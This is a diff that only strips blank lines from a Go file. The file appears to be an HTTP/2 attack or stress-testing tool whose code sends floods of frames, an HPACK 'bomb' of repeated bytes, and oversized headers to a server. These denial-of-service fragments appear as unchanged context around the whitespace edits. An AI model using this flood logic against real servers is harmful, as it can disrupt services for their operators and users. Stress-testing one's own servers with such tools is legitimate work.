@@ -37,13 +37,11 @@ func (s *siege) speaking(reads bool, settings []http2.Setting, do func(ctx conte
 			return err
 		}
 		defer conn.Close()
-
 		stop := context.AfterFunc(ctx, func() { conn.Close() })
 		defer stop()
 		if tcp, ok := conn.NetConn().(*net.TCPConn); ok && !reads {
 			_ = tcp.SetReadBuffer(4 << 10) // Else the system buffers megabytes.
 		}
-
 		if reads {
 			heard := make(chan struct{})
 			defer func() {
@@ -52,19 +50,16 @@ func (s *siege) speaking(reads bool, settings []http2.Setting, do func(ctx conte
 			}()
 			go func() {
 				defer close(heard)
-
 				_, _ = io.Copy(io.Discard, conn) // It ends with the connection.
 				conn.Close()
 			}()
 		}
-
 		out := bufio.NewWriterSize(conn, 64<<10)
 		speaker := &speaker{Framer: http2.NewFramer(out, nil), conn: conn, out: out, stream: 1, frames: &s.frames}
 		speaker.hpack = hpack.NewEncoder(&speaker.block)
 		if _, err := out.WriteString(http2.ClientPreface); err != nil {
 			return err
 		}
-
 		if err := errors.Join(speaker.WriteSettings(settings...), speaker.WriteSettingsAck(), out.Flush()); err != nil {
 			return err
 		}
@@ -79,15 +74,12 @@ func (s *speaker) again(ctx context.Context, times int, do func() error) error {
 		if err := do(); err != nil {
 			return err
 		}
-
 		if i%batch == 0 {
 			if err := s.out.Flush(); err != nil {
 				return err
 			}
-
 			s.frames.Add(batch)
 		}
-
 		if ctx.Err() != nil {
 			break
 		}
@@ -166,7 +158,6 @@ func (s *siege) frameAttacks() []attack {
 				}); err != nil {
 					return err
 				}
-
 				// Index 62 is the youngest entry of the table.
 				bomb := bytes.Repeat([]byte{0xbe}, 16<<10-1)
 				return s.again(ctx, 100, func() error {
@@ -184,7 +175,6 @@ func (s *siege) frameAttacks() []attack {
 			if err := s.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block}); err != nil {
 				return err
 			}
-
 			s.block.Reset()
 			_ = s.hpack.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 4000), Sensitive: true})
 			filler := bytes.Clone(s.block.Bytes())
